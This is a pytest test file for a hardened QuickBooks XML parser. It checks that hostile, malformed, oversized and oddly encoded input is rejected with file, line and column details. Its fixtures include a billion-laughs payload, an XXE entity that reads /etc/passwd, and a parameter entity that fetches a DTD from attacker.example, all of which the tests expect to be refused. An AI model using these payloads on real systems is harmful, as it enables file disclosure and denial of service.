"""The hardened XML parser: hostile and malformed input is refused with file, line, column."""

from __future__ import annotations

import pytest

from qbrecon import InputError, read_qb_lists
from qbrecon._xml import parse_xml

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<QBXML><QBXMLMsgsRs><CustomerQueryRs><CustomerRet><ListID>1</ListID><Name>&lol3;</Name>
</CustomerRet></CustomerQueryRs></QBXMLMsgsRs></QBXML>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<QBXML><QBXMLMsgsRs><EmployeeQueryRs><EmployeeRet><ListID>1</ListID><Name>&xxe;</Name>
</EmployeeRet></EmployeeQueryRs></QBXMLMsgsRs></QBXML>"""

PLAIN_DTD = '<?xml version="1.0"?>\n<!DOCTYPE QBXML SYSTEM "qbxml130.dtd">\n<QBXML/>'
PARAMETER_ENTITY = '<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">\n<QBXML/>'


@pytest.mark.parametrize(
    ("doc", "line"),
    [(BILLION_LAUGHS, 2), (EXTERNAL_ENTITY, 2), (PLAIN_DTD, 2), (PARAMETER_ENTITY, 1),
     ("<QBXML/>\n<!doctype html>", 2)],
)
def test_dtds_and_entities_are_refused_before_parsing(doc, line):
    with pytest.raises(InputError, match="DOCTYPE or entity") as info:
        parse_xml(doc, file="rs.xml")
    assert info.value.file == "rs.xml"
    assert info.value.problems[0].row == line


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, EXTERNAL_ENTITY])
def test_hostile_qbxml_files_are_refused_by_the_list_reader(tmp_path, doc):
    path = tmp_path / "CustomerQueryRs.xml"
    path.write_text(doc)
    with pytest.raises(InputError, match="DOCTYPE or entity") as info:
        read_qb_lists(tmp_path)  # even inside a folder: never skipped silently
    assert "CustomerQueryRs.xml" in str(info.value)


@pytest.mark.parametrize(
    ("doc", "line", "column"),
    [("<QBXML>\n  <QBXMLMsgsRs>\n  </QBXML>", 3, "5"),
     ("<QBXML><Name>A & B</Name></QBXML>", 1, "17"),
     ("", 1, "1"),
     ("<a/>\n<b/>", 2, "1")],
)
def test_malformed_xml_names_line_and_column(doc, line, column):
    with pytest.raises(InputError, match="not well-formed") as info:
        parse_xml(doc, file="x.xml")
    p = info.value.problems[0]
    assert (p.row, p.column) == (line, column)
    assert "x.xml" in str(info.value)


def test_fragments_keep_line_numbers_true():
    root = parse_xml('<?xml version="1.0" ?>\n<QBXML/>\n<?xml version="1.0" ?>\n<QBXML/>\n',
                     fragments=True)
    assert [c.tag for c in root] == ["QBXML", "QBXML"]
    with pytest.raises(InputError) as info:
        parse_xml("<QBXML/>\n<QBXML>\n<x></QBXML>", fragments=True)
    assert info.value.problems[0].row == 3


def test_size_limit():
    with pytest.raises(InputError, match="larger than the limit"):
        parse_xml(b"<a>" + b"x" * 2000 + b"</a>", max_bytes=1000)
    assert parse_xml(b"<a>" + b"x" * 900 + b"</a>", max_bytes=1000).tag == "a"


@pytest.mark.parametrize(
    ("data", "expected"),
    [('<?xml version="1.0" encoding="windows-1252"?><n>Café</n>'.encode("cp1252"), "Café"),
     ("<n>Café</n>".encode("cp1252"), "Café"),  # undeclared and not UTF-8: Windows-1252
     ("<n>Café</n>".encode(), "Café"),
     ("\ufeff<n>Çiçek</n>".encode("utf-16-le"), "Çiçek"),
     ('\ufeff<?xml version="1.0" encoding="utf-8"?><n>Şule</n>'.encode("utf-8"), "Şule")],
)
def test_encodings(data, expected):
    assert parse_xml(data).text == expected


def test_unknown_declared_encoding_is_an_input_error():
    with pytest.raises(InputError, match="unknown encoding"):
        parse_xml(b'<?xml version="1.0" encoding="klingon-8"?><a/>')
